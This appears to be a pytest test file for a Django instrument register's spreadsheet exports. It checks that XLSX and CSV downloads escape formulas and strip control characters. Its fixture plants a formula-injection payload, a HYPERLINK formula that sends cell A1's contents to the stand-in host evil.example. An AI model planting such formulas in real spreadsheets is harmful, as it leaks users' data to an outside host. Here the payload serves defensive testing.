"""The files the register gives out stay whole and inert, whatever the stored text holds."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse

from tdc.metrology.models import ImportJob, ImportRejection, Instrument
from tdc.metrology.tests.factories import instrument

pytestmark = pytest.mark.django_db
# PostgreSQL cannot store NUL in text at all; SQLite can, so the test plants it there.
NUL = "\x00" if connection.vendor == "sqlite" else ""


@pytest.fixture
def poisoned(business, nha_trang):
    """A record written before input was cleaned: control characters and a formula."""
    pump = instrument(business, nha_trang, serial="P-1")
    Instrument.objects.filter(pk=pump.pk).update(
        manufacturer=f"Tat\x0csuno{NUL}\x0b",
        model='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
        address="+84 258 1234",
        measuring_range="-20…50 °C",
    )
    return pump


def test_the_instruments_xlsx_opens_and_writes_formulas_as_text(client, business_user, poisoned):
    client.force_login(business_user)

    response = client.get(reverse("metrology:export_xlsx"))

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    row = [cell.value for cell in sheet[2]]
    assert row[:4] == [
        "Cột đo xăng dầu",
        "P-1",
        "Tatsuno",
        '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    ]
    assert row[6] == "+84 258 1234"
    # Shown as typed, stored as text: a string cell with Excel's quote prefix, never a formula.
    assert all(cell.data_type == "s" for cell in sheet[2] if cell.value)
    assert [sheet[2][3].quotePrefix, sheet[2][6].quotePrefix] == [True, True]


def test_the_instruments_csv_escapes_formulas(client, business_user, poisoned):
    client.force_login(business_user)

    body = b"".join(client.get(reverse("metrology:export_csv")).streaming_content)

    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1][2:4] == ["Tatsuno", '\'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")']
    assert rows[1][6] == "'+84 258 1234"


def test_rejected_rows_come_back_inert_in_xlsx(client, business_user, business):
    job = ImportJob.objects.create(
        created_by=business_user,
        organisation=business,
        owner=business,
        original_name='a"b\nc.xlsx',
        file_format="xlsx",
        file=SimpleUploadedFile("a.xlsx", b"x"),
        headers=["Loại phương tiện đo", "Số sản xuất"],
        status="done",
    )
    ImportRejection.objects.create(
        job=job, row_number=2, cells=["@SUM(1+1)", f"S\x0c{NUL}1"], reason="Thiếu xã, phường"
    )
    client.force_login(business_user)

    response = client.get(reverse("metrology:import_rejected", args=[job.pk]))

    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''a%22b%0Ac-dong-bi-tu-choi.xlsx"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in sheet[2]] == ["@SUM(1+1)", "S1", "Thiếu xã, phường"]
    assert (sheet[2][0].data_type, sheet[2][0].quotePrefix) == ("s", True)


def test_a_rejected_rows_csv_reads_back_as_typed():
    from tdc.metrology.imports.reading import clean_cell
    from tdc.reports.cells import safe_csv_cell

    typed = ["=HYPERLINK(1)", "+84 258 1234", "'quoted", "KH-0001"]

    assert [clean_cell(safe_csv_cell(t)) for t in typed] == typed
